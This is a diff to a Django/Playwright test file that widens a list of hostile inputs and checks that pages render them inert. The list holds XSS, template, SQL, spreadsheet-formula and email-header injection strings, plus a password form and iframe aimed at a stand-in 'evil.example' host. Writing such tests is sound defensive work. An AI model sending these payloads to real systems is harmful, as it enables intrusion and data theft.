@@ -12,25 +12,45 @@ from django.contrib.auth.models import User
 from playwright.sync_api import Page, Response, Route, expect
 
 from complaints import casework
+from complaints.domain.cleaning import LONGEST_TEXT, clean_line, clean_text
 from complaints.models import Case, OutreachAttempt, Post
 
 pytestmark = pytest.mark.django_db(transaction=True)
 ZERO_WIDTH = chr(0x200B)
 RIGHT_TO_LEFT = chr(0x202E)
-HOSTILE = [
+HOSTILE = [  # as strangers send it; what only a transport can do has tests beside the spiders
+    "半个字 \ud83d",
+    "a\x00b\x1b[31m红\x07",
+    "长帖。" * 30_000,
+    "退" * 60_000,
+    f"退{ZERO_WIDTH}费 退{ZERO_WIDTH}款",
+    f"{RIGHT_TO_LEFT}反过来的字",
+    "\ud83d\ude21👨\u200d👩\u200d👧\u200d👦🇨🇳" * 20,
+    "Z" + "\u0335\u0321\u0334" * 170,
+    "ｒｅｆｕｎｄ 退費 \U00020bb7 ㈱",
+    "鍏ㄩ儴閫€璐\ufeff\ufffd",
+    '{"text": "{\\"text\\": \\"断了',
+    "NaN Infinity 1e400 9223372036854775808",
+    "刚刚 1970-01-01 2099-02-30",
+    "1.2万 10万+ 3亿 -5 １２",
     "<script>document.title='owned'</script>",
     "<img src=x onerror=\"document.title='owned'\">",
     "<svg/onload=document.title='owned'>",
-    "{{7*7}} {% debug %} ${7*7} #{7*7}",
-    "javascript:document.title='owned'",
-    '=HYPERLINK("http://evil.example","点我")',
-    f"{RIGHT_TO_LEFT}反过来的字{ZERO_WIDTH}",
-    "'; DROP TABLE complaints_post; --",
-    "Z" + "\u0335\u0321\u0334" * 40,
-    "退" * 3000,
+    "</textarea></bdi><script>document.title='owned'</script>",
+    "&lt;script&gt;document.title='owned'&amp;lt;/script&amp;gt;",
     "<a href=javascript:alert(1)>x</a><style>*{display:none}</style>",
     "]]><!--<iframe src=//evil.example></iframe>-->",
-    "\ud83d\ude21👨‍👩‍👧‍👦" * 20,
+    "javascript:document.title='owned'",
+    "data:text/html,<script>document.title='owned'</script>",
+    '=HYPERLINK("http://evil.example","点我")',
+    "@SUM(1+1)*cmd|' /C calc'!A0\t\r\n\"x\",",
+    "{{7919*7907}} {% debug %} ${7919*7907} #{7919*7907} %n",
+    "主题\r\nBcc: everyone@evil.example\r\n\r\n",
+    "a" * 3000 + "!" + "(a+)+$",
+    "[" * 10_000,
+    '" OR * (',
+    "请完成验证 <form action=//evil.example><input name=password></form>",
+    "'; DROP TABLE complaints_post; --",
 ]
 
 
@@ -263,11 +283,11 @@ def test_strangers_text_is_inert_on_every_page(
     page: Page, sign_in: Any, colleague: Callable[..., User], make_case: Callable[..., Any]
 ) -> None:
     numbers = []
-    for number, text in enumerate(HOSTILE):
+    for number, sent in enumerate(HOSTILE):
+        text, line = clean_text(sent)[:LONGEST_TEXT], clean_line(sent, 40)
         made = make_case(
-            text=f"{text} 青禾", author_id=str(number), author_name=text[:60], region=text[:40],
-            device=text[:40],
-        )  # fmt: skip
+            text=f"{text} 青禾", author_id=str(number), author_name=line, region=line, device=line
+        )
         numbers.append(made.number)
     colleague("boss", "admin", "管理员")
     sign_in(page, "boss")
@@ -275,9 +295,8 @@ def test_strangers_text_is_inert_on_every_page(
         page.goto(address)
         page.wait_for_load_state()
         assert "owned" not in page.title()
-        assert (
-            page.locator(".post-text script, .row-text script, iframe, .post-text img").count() == 0
-        )
+        assert page.locator("bdi :is(script, img, svg, style, form, a), iframe").count() == 0
+        assert str(7919 * 7907) not in page.content()
     assert Post.objects.count() == len(HOSTILE)
     inline = page.evaluate("[...document.querySelectorAll('script')].filter(s => !s.src).length")
     assert inline == 0
